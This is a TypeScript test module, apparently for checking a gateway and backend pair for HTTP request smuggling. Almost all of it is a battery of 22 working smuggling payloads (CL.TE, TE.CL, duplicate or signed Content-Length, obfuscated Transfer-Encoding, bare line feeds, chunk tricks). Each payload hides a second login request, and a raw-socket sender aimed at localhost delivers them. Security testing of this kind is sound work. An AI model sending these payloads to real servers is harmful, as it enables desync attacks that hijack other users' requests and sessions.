import { connect } from 'node:net';

const LOGIN = JSON.stringify({ userID: 'driver', userPass: 'driver123' });
/** A slow request, so that its answer comes when somebody else uses the same connection. */
const SMUGGLED = `POST /api/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${LOGIN.length}\r\n\r\n${LOGIN}`;
const hex = (text: string) => text.length.toString(16);
const chunked = (text: string) => `${hex(text)}\r\n${text}\r\n0\r\n\r\n`;

/** Request smuggling: requests that a gateway and its backend could read differently; each has a second one in its body. */
export const BATTERY: Record<string, string> = {
  'a chunked body of a GET': `GET /api/health HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n${chunked(SMUGGLED)}`,
  'a chunked body of a HEAD': `HEAD /api/health HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n${chunked(SMUGGLED)}`,
  'a chunked body of an OPTIONS': `OPTIONS /api/health HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n${chunked(SMUGGLED)}`,
  'a chunked body of a DELETE': `DELETE /api/health HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n${chunked(SMUGGLED)}`,
  'a body of a GET with its length': `GET /api/health HTTP/1.1\r\nHost: x\r\nContent-Length: ${SMUGGLED.length}\r\n\r\n${SMUGGLED}`,
  'CL.TE': `POST /api/health HTTP/1.1\r\nHost: x\r\nContent-Length: ${SMUGGLED.length + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${SMUGGLED}`,
  'TE.CL': `POST /api/health HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n${chunked(SMUGGLED)}`,
  'two transfer encodings': `POST /api/health HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n${chunked(SMUGGLED)}`,
  'a transfer encoding that is none': `POST /api/health HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\nContent-Length: 4\r\n\r\n${chunked(SMUGGLED)}`,
  'two lengths': `POST /api/health HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nContent-Length: ${SMUGGLED.length}\r\n\r\n${SMUGGLED}`,
  'two lengths in one': `POST /api/health HTTP/1.1\r\nHost: x\r\nContent-Length: 0, ${SMUGGLED.length}\r\n\r\n${SMUGGLED}`,
  'a length with a sign': `POST /api/health HTTP/1.1\r\nHost: x\r\nContent-Length: +0\r\n\r\n${SMUGGLED}`,
  'a folded header': `POST /api/health HTTP/1.1\r\nHost: x\r\nTransfer-Encoding:\r\n chunked\r\nContent-Length: 4\r\n\r\n${chunked(SMUGGLED)}`,
  'a space before the colon': `POST /api/health HTTP/1.1\r\nHost: x\r\nTransfer-Encoding : chunked\r\nContent-Length: 4\r\n\r\n${chunked(SMUGGLED)}`,
  'bare line feeds': `POST /api/health HTTP/1.1\nHost: x\nTransfer-Encoding: chunked\n\n0\n\n${SMUGGLED}`,
  'a bare line feed in a header': `POST /api/health HTTP/1.1\r\nHost: x\r\nX: y\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n${chunked(SMUGGLED)}`,
  'chunk extensions': `POST /api/health HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0;x="\r\n\r\n${SMUGGLED}"\r\n\r\n`,
  'a chunk size too large for a number': `POST /api/health HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n10000000000000000\r\n\r\n${SMUGGLED}`,
  trailers: `POST /api/health HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nTrailer: Content-Length\r\n\r\n0\r\nContent-Length: ${SMUGGLED.length}\r\n\r\n`,
  expect: `POST /api/health HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nContent-Length: ${SMUGGLED.length}\r\n\r\n${SMUGGLED}`,
  upgrade: `GET /api/health HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: h2c\r\nContent-Length: ${SMUGGLED.length}\r\n\r\n${SMUGGLED}`,
  'a header that names others as hop-by-hop': `POST /api/health HTTP/1.1\r\nHost: x\r\nConnection: content-length, keep-alive\r\nContent-Length: ${SMUGGLED.length}\r\n\r\n${SMUGGLED}`,
};

/** Sends these bytes on one connection; answers what comes back until it is closed or silent (milliseconds). */
export function send(url: string, bytes: string, silence = 150): Promise<string> {
  return new Promise((done) => {
    let answer = '';
    const socket = connect(Number(new URL(url).port), '127.0.0.1', () => socket.write(bytes));
    socket.setTimeout(silence, () => socket.destroy());
    socket.on('data', (data) => {
      answer += data;
    });
    socket.on('error', () => {});
    socket.on('close', () => done(answer));
  });
}
